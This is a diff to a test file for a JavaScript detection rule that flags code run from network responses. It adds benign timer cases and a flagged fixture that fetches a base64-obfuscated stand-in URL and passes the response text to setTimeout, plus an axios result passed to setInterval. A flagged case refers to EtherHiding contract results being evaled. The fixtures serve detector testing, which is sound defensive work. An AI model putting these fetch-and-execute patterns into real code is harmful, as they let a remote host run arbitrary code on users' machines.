@@ -62,8 +62,34 @@ ruleTest(rule, {
         'nft.on(\'Transfer\', (from, to) => console.log(fmt(from), to));',
       ].join('\n'),
     },
+    {
+      name: 'timers given functions next to network callbacks (poll loop, promise sleep, socket.io ack, a promised handler, a lazily imported module)',
+      file: 'src/poll.js',
+      code: [
+        "const io = require('socket.io-client');",
+        "const socket = io('https://rt.example.com');",
+        'const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));',
+        'function poll(render) {',
+        "  fetch('https://api.example.com/status').then((r) => r.json()).then((s) => { render(s); setTimeout(() => poll(render), 5000); });",
+        '}',
+        "fetch('https://api.example.com/a').then((r) => sleep(100).then(() => r.text()));",
+        "socket.on('job', (job, ack) => setTimeout(ack, 10, job.id));",
+        "async function getHandler() { await fetch('https://api.example.com/ping'); return () => console.log('ok'); }",
+        'getHandler().then((handler) => setTimeout(handler, 0));',
+        "import('./ticker.js').then((m) => setInterval(m.default, 1000));",
+      ].join('\n'),
+    },
   ],
   flagged: [
+    {
+      name: 'setTimeout given the response text through a promise callback parameter',
+      file: 'index.js',
+      code: "const axios = require('axios');\nfetch(atob('aHR0cHM6Ly9hcGkuZXhhbXBsZS5pbnZhbGlkL3YxL2NmZw==')).then((r) => r.text()).then((code) => setTimeout(code, 10));\naxios.get('https://cfg.example.invalid/t').then((r) => setInterval(r.data, 60000));\n",
+      findings: [
+        { line: 2, severity: 'critical', confidence: 'high', message: /setTimeout runs code from the response of fetch\(https:\/\/api\.example\.invalid\/v1\/cfg\)/ },
+        { line: 3, severity: 'critical', confidence: 'high', message: /setInterval runs code from the response of axios\.get/ },
+      ],
+    },
     {
       name: 'EtherHiding: web3 contract.methods.get().call() result decoded and evaled',
       file: 'server.js',
